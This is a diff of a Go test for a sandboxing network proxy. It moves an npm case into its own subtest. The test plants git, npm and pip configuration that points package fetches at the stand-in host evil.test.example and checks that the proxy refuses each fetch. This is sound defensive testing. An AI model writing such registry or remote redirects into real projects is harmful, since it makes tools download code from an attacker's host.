@@ -150,20 +150,25 @@ func testCurlBypasses(t *testing.T, n *internet, p policy.Policy) {
 // testConfigured: what a project's own files say is seen by nobody before the
 // start, and stopped by the proxy.
 func testConfigured(t *testing.T, n *internet, p policy.Policy) {
-	hosttest.Needs(t, "git", "npm", "python3")
+	hosttest.Needs(t, "git", "python3")
 	w := online(t, n, strictPolicy(p))
 	const evil = "evil.test.example:443: not in allow_net"
 	w.ok("git", "init", "-q", "repo")
 	w.put("repo/.git/config", "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://evil.test.example/git/repo.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n")
 	refusedBy(t, w.run("git", "-C", "repo", "fetch"), evil)
 
-	w.put("package.json", `{"name": "user", "version": "1.0.0", "dependencies": {"tiny": "1.0.0"}}`)
-	w.put(".npmrc", "registry=https://evil.test.example/npm/\nfetch-retries=0\naudit=false\nupdate-notifier=false\n")
-	refusedBy(t, w.run("npm", "install"), evil)
-
 	w.put("requirements.txt", "--index-url https://evil.test.example/simple/\ntiny==1.0\n")
 	refusedBy(t, w.run(append(pip(t), "download", "--retries", "0", "--disable-pip-version-check", "-r", "requirements.txt")...), evil)
 	n.check(t)
+
+	t.Run("npm", func(t *testing.T) {
+		hosttest.NeedsExtra(t, hosttest.NPM)
+		w := online(t, n, strictPolicy(p))
+		w.put("package.json", `{"name": "user", "version": "1.0.0", "dependencies": {"tiny": "1.0.0"}}`)
+		w.put(".npmrc", "registry=https://evil.test.example/npm/\nfetch-retries=0\naudit=false\nupdate-notifier=false\n")
+		refusedBy(t, w.run("npm", "install"), evil)
+		n.check(t)
+	})
 }
 
 // testHammering: a guest that does not take no for an answer is ended.
